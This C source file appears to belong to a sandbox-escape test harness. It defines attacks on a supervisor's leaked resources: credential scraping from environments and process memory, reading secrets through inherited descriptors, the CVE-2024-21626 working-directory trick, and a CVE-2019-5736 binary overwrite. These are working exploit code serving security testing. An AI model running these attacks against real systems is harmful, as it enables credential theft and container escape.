/*
 * Processes: what a supervisor hands down without meaning to. It is started with descriptors of files, directories,
 * sockets, processes and namespaces that were never marked close-on-exec, with tokens in its environment, and with
 * files as its standard streams.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/file.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>
#include <signal.h>

#include "act.h"
#include "dial.h"
#include "stage.h"

#ifndef SYS_pidfd_send_signal
#define SYS_pidfd_send_signal 424
#endif

extern char **environ;

ACT(read_environment)
{
	for (char **e = environ; *e; e++)
		show(*e, strlen(*e));
	return 0;
}

ACT(read_environment_by_proc)
{
	return show_file(a->arg);
}

/* Shows what follows a well-known name. */
static void show_tokens(const char *block, size_t size)
{
	static const char name[] = "PGPASSWORD=";
	const char *end = block + size;
	for (const char *at = block; (at = memmem(at, (size_t)(end - at), name, sizeof(name) - 1)); at++)
		show(at, (size_t)(end - at) < 64 ? (size_t)(end - at) : 64);
}

static int scan_memory(UNUSED const struct targets *t, pid_t pid)
{
	_cleanup_close_ int memory = open(text("/proc/%d/mem", pid), O_RDONLY);
	FILE *maps = fopen(text("/proc/%d/maps", pid), "re");
	char line[512], block[65536];
	unsigned long from, to;
	while (memory >= 0 && maps && fgets(line, sizeof(line), maps)) {
		if (!strstr(line, "[stack]") || sscanf(line, "%lx-%lx", &from, &to) != 2)
			continue;
		for (ssize_t n; from < to && (n = pread(memory, block, sizeof(block), (off_t)from)) > 0;
		     from += (unsigned long)n)
			show_tokens(block, (size_t)n);
	}
	if (maps)
		fclose(maps);
	return memory < 0 ? -EACCES : -ENOENT; /* on to the next process */
}

ACT(scan_memories)
{
	return each_process(scan_memory, t);
}

static int leaked(const struct targets *t, const struct attack *a)
{
	return (int)targets_number(t, a->arg);
}

ACT(read_leaked_file)
{
	char secret[64];
	ssize_t n = pread(leaked(t, a), secret, sizeof(secret), 0);
	if (n < 0)
		return -errno;
	show(secret, (size_t)n);
	return 0;
}

ACT(read_leaked_directory)
{
	return show_file_at(leaked(t, a), "secrets/token");
}

/* The working directory set to a leaked descriptor, then up. */
ACT(change_to_leaked_directory)
{
	if (chdir(text("/proc/self/fd/%d", leaked(t, a))))
		return -errno;
	return show_file("run/../secrets/token");
}

ACT(greet_leaked_socket)
{
	return dial_greet(leaked(t, a));
}

ACT(receive_leaked_descriptor)
{
	char byte, room[CMSG_SPACE(sizeof(int))];
	struct iovec part = {&byte, 1};
	struct msghdr message = {
		.msg_iov = &part, .msg_iovlen = 1, .msg_control = room, .msg_controllen = sizeof(room)};
	if (recvmsg(leaked(t, a), &message, MSG_DONTWAIT) < 0)
		return -errno;
	struct cmsghdr *head = CMSG_FIRSTHDR(&message);
	int fd;
	if (!head)
		return -ENOENT;
	memcpy(&fd, CMSG_DATA(head), sizeof(fd));
	return show_fd(fd);
}

ACT(signal_leaked_process)
{
	return result(syscall(SYS_pidfd_send_signal, leaked(t, a), SIGUSR1, NULL, 0));
}

ACT(join_leaked_namespace)
{
	if (setns(leaked(t, a), CLONE_NEWNET))
		return -errno;
	return reached("a leaked network namespace can be joined");
}

ACT(find_any_descriptor)
{
	for (int fd = 3; fd < 4096; fd++) {
		if (fcntl(fd, F_GETFD) < 0)
			continue;
		char target[256];
		ssize_t n = readlink(text("/proc/self/fd/%d", fd), target, sizeof(target) - 1);
		target[n < 0 ? 0 : n] = '\0';
		return reached("descriptor %d is %s", fd, target);
	}
	return -EBADF;
}

/* CVE-2019-5736: the supervisor's own binary, held by an O_PATH descriptor until nobody executes it any more. Only a
 * file that is the platform's copy is ever touched. */
static int overwrite_binary(const struct targets *t, pid_t pid)
{
	struct stat st;
	_cleanup_close_ int binary = open(text("/proc/%d/exe", pid), O_PATH);
	if (binary < 0 || fstat(binary, &st))
		return -errno;
	if (st.st_ino != (ino_t)targets_number(t, "binary.inode"))
		return -ENOENT;
	if (fork())
		return 0;
	setsid();
	for (int i = 0; i < 200; i++) {
		if (!spoil(text("/proc/self/fd/%d", binary)))
			_exit(0);
		linger(5);
	}
	_exit(1);
}

ACT(overwrite_binaries)
{
	return each_process(overwrite_binary, t);
}

ACT(overwrite_own_parent)
{
	return overwrite_binary(t, getppid());
}

ACT(truncate_stdout)
{
	return result(ftruncate(STDOUT_FILENO, 0));
}

ACT(reopen_stream)
{
	_cleanup_close_ int fd = open(text("/proc/self/fd/%ld", a->number), O_WRONLY | O_TRUNC);
	return fd < 0 ? -errno : result(write(fd, "spoiled\n", 8));
}

ACT(change_stream_mode)
{
	return result(fchmod((int)a->number, 0600));
}

ACT(change_stream_times)
{
	struct timespec times[2] = {{.tv_sec = 1}, {.tv_sec = 1}};
	return result(futimens((int)a->number, times));
}

ACT(change_stream_attribute)
{
	return result(fsetxattr((int)a->number, "user.planted", "1", 1, 0));
}

/* Whoever watches holds it for a moment, too. */
ACT(lock_stream)
{
	for (int tries = 0; flock((int)a->number, LOCK_EX | LOCK_NB); tries++) {
		if (errno != EWOULDBLOCK || tries == 250)
			return -errno;
		linger(1);
	}
	linger(250);
	return 0;
}

ACT(read_from_directory)
{
	return show_file_at(STDIN_FILENO, "secrets/token");
}

static void try_stdin_lock(struct stage *s)
{
	_cleanup_close_ int fd = open(stage_path(s, "streams/stdin"), O_RDONLY | O_CLOEXEC);
	if (fd >= 0 && flock(fd, LOCK_EX | LOCK_NB))
		stage_hit(s, "the platform cannot lock the file behind stdin");
}

static void judge_stdout_file(struct stage *s)
{
	char head[16] = "";
	_cleanup_close_ int fd = open(stage_path(s, "var/stdout"), O_RDONLY | O_CLOEXEC);
	if (fd < 0 || read(fd, head, 8) != 8 || memcmp(head, "the log\n", 8))
		stage_hit(s, "what stood in the supervisor's log is gone");
}

#define LEAK(n, how, fn, e, ...)                                                 \
	{                                                                        \
		.name = n, .mechanism = how, .run = fn, .effect = e, __VA_ARGS__ \
	}

static const struct attack table[] = {
	LEAK("environment", "PGPASSWORD and tokens in the environment", read_environment, EFFECT_SECRET),
	LEAK("environment-proc", "/proc/self/environ", read_environment_by_proc, EFFECT_SECRET,
	     .arg = "/proc/self/environ"),
	LEAK("environment-memory", "the supervisor's environment in the memory of processes in sight",
	     scan_memories, EFFECT_SECRET),
	LEAK("leaked-file", "an inherited descriptor of a file", read_leaked_file, EFFECT_SECRET,
	     .arg = "leak.file"),
	LEAK("leaked-high", "an inherited descriptor with a high number", read_leaked_file, EFFECT_SECRET,
	     .arg = "leak.high"),
	LEAK("leaked-memfd", "an inherited memfd", read_leaked_file, EFFECT_SECRET, .arg = "leak.memfd"),
	LEAK("leaked-directory", "an inherited descriptor of a directory", read_leaked_directory,
	     EFFECT_SECRET, .arg = "leak.directory"),
	LEAK("leaked-path", "an inherited O_PATH descriptor of a directory", read_leaked_directory,
	     EFFECT_SECRET, .arg = "leak.path"),
	LEAK("leaked-cwd", "chdir(/proc/self/fd/N) of an inherited directory, mechanism of CVE-2024-21626",
	     change_to_leaked_directory, EFFECT_SECRET, .arg = "leak.directory"),
	LEAK("leaked-socket", "an inherited connected socket", greet_leaked_socket, EFFECT_HIT,
	     .arg = "leak.socket"),
	LEAK("leaked-queue", "descriptors waiting in an inherited socket (SCM_RIGHTS)",
	     receive_leaked_descriptor, EFFECT_SECRET, .arg = "leak.rights"),
	LEAK("leaked-pidfd", "an inherited pidfd", signal_leaked_process, EFFECT_HIT, .arg = "leak.pidfd"),
	LEAK("leaked-namespace", "an inherited namespace descriptor", join_leaked_namespace, EFFECT_CLAIM,
	     .arg = "leak.namespace", .flags = ROOT_ONLY),
	LEAK("leaked-any", "any descriptor beyond the standard streams", find_any_descriptor, EFFECT_CLAIM),
	LEAK("overwrite-supervisor", "/proc/PID/exe of the supervisor, mechanism of CVE-2019-5736",
	     overwrite_binaries, EFFECT_TREE, .flags = OUTLIVES),
	LEAK("overwrite-parent", "/proc/PPID/exe, mechanism of CVE-2019-5736", overwrite_own_parent,
	     EFFECT_TREE, .flags = OUTLIVES),
	LEAK("stdout-truncate", "ftruncate() of a stdout that is a file", truncate_stdout, EFFECT_HIT,
	     .flags = STDOUT_FILE, .judge = judge_stdout_file),
	LEAK("stdout-reopen", "a stdout that is a file, opened again", reopen_stream, EFFECT_HIT, .number = 1,
	     .flags = STDOUT_FILE, .judge = judge_stdout_file),
	LEAK("stdin-reopen", "a stdin that is a file, opened again for writing", reopen_stream, EFFECT_TREE,
	     .number = 0, .flags = STDIN_FILE),
	LEAK("stdin-chmod", "fchmod() of a stdin that is a file", change_stream_mode, EFFECT_TREE,
	     .number = 0, .flags = STDIN_FILE),
	LEAK("stdin-utimes", "futimens() of a stdin that is a file", change_stream_times, EFFECT_TREE,
	     .number = 0, .flags = STDIN_FILE),
	LEAK("stdin-xattr", "fsetxattr() of a stdin that is a file", change_stream_attribute, EFFECT_TREE,
	     .number = 0, .flags = STDIN_FILE),
	LEAK("stdin-directory", "openat() below a stdin that is a directory", read_from_directory,
	     EFFECT_SECRET, .flags = STDIN_DIRECTORY | REFUSAL_HOLDS),
	LEAK("stdin-lock", "flock() of a stdin that is a file", lock_stream, EFFECT_HIT, .number = 0,
	     .flags = STDIN_FILE, .during = try_stdin_lock),
};

const struct attack_family processes_leak = {.name = "processes", .title = "processes", FAMILY(table)};
